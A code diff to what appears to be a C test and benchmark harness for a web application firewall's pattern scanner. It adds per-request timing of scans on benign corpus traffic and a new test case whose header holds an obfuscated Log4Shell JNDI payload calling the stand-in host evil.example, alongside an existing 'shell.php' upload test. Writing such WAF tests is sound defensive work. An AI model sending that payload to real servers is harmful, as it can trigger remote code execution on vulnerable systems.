@@ -553,6 +553,8 @@ static size_t builtin(struct req *r, size_t i)
 		     "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"shell.php\"\r\n"
 		     "Content-Type: text/plain\r\n\r\nhello\r\n--xYzZY--\r\n");
 		return 1;
+	case 24: req_init(r, "GET", "/", 1); browser(r);
+		hdr(r, "X-Api-Version", "${${lower:j}ndi:ldap://evil.example/x}"); return 1;
 	case 23: req_init(r, "POST", "/upload", 1); browser(r);
 		body(r, "multipart/form-data; boundary=xYzZY",
 		     "--xYzZY\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.txt\"\r\n"
@@ -785,6 +787,12 @@ static void run_level(int pl)
 	}
 	const char *raw = getenv("WAF_PF_RAW");
 	FILE *f = raw ? fopen(raw, "rb") : NULL;
+	const char *rr = getenv("WAF_PF_RAW_REPS");
+	int raw_reps = rr ? atoi(rr) : 1;
+	double raw_ms = 0;
+	size_t raw_n = 0;
+	if (raw_reps < 1)
+		raw_reps = 1;
 	if (f) {
 		char head[512];
 		size_t skipped = 0;
@@ -802,6 +810,15 @@ static void run_level(int pl)
 			if (parse_raw(&r, kind, label, b, len)) {
 				r.label = label;
 				check(pf, sc, ms, rules, &r, &st, pl);
+				if (r.kind == 0) {
+					/* the scan's cost on this benign request */
+					struct waf_pf_req q = as_pf(&r);
+					double a = now_ms();
+					for (int k = 0; k < raw_reps; k++)
+						(void)waf_pf_scan(pf, sc, &q);
+					raw_ms += now_ms() - a;
+					raw_n++;
+				}
 				req_free(&r);
 			} else {
 				req_free(&r);
@@ -811,6 +828,9 @@ static void run_level(int pl)
 		}
 		fclose(f);
 		printf("  PL%d corpus: %zu unparsable raw requests skipped\n", pl, skipped);
+		if (raw_n)
+			printf("  PL%d corpus: scan %.1f us per benign request on average (%zu requests)\n",
+			       pl, raw_ms * 1e3 / ((double)raw_n * raw_reps), raw_n);
 	}
 	printf("  PL%d: build %.0f ms, %zu patterns, %zu fallbacks, database %zu KiB\n", pl, build,
 	       waf_pf_patterns(pf), waf_pf_fallbacks(pf), waf_pf_db_bytes(pf) / 1024);
